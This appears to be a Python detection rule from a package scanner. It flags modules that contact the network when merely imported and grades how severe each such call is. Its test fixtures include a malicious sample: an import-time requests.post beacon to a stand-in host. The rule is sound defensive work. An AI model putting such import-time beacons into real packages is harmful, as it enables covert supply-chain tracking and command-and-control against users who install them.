"""Network use by merely importing a module."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Context, Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import shown
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.vocabulary import LOOK_UPS

_HOST_NAME = re.compile(r"(?i)^[\w.-]+\.[a-z]{2,}$")
_NEAR = re.compile(r"(?i)^(https?://)?(localhost|127\.|0\.0\.0\.0|\[?::1|169\.254\.169\.254)")


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND, Act.DOWNLOAD):
        if call.context is not Context.IMPORT or _NEAR.search(call.text):
            continue
        if call.name.startswith("webbrowser."):
            yield Evidence.of_call(call, Severity.MEDIUM, shown(call))
        elif call.name in LOOK_UPS:
            # Looking up one's own address happens; looking up a name that stands in the code is a signal to its owner.
            if _names_a_host(call):
                yield Evidence.of_call(call, Severity.MEDIUM, shown(call))
        else:
            yield Evidence.of_call(call, Severity.HIGH, shown(call))


def _names_a_host(call: Call) -> bool:
    first = call.arguments[0].constant if call.arguments else None
    return isinstance(first, str) and _HOST_NAME.match(first) is not None


RULE = Rule(
    id="import-network",
    version=1,
    severity=Severity.HIGH,
    tactic=Tactic.COMMAND_AND_CONTROL,
    message="Importing the module is enough for it to talk to the network.",
    reference="https://attack.mitre.org/techniques/T1195/002/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import requests

                requests.post("https://beacon.example.invalid/", json={"imported": True})
            """),
        ),
        benign=(
            Sample.imported("""
                import socket

                import requests

                SESSION = requests.Session()
                _own = socket.gethostbyname(socket.gethostname())


                def fetch(url):
                    return SESSION.get(url, timeout=10)


                if __name__ == "__main__":
                    print(fetch("https://www.example.invalid/"))
            """),
        ),
    ),
)
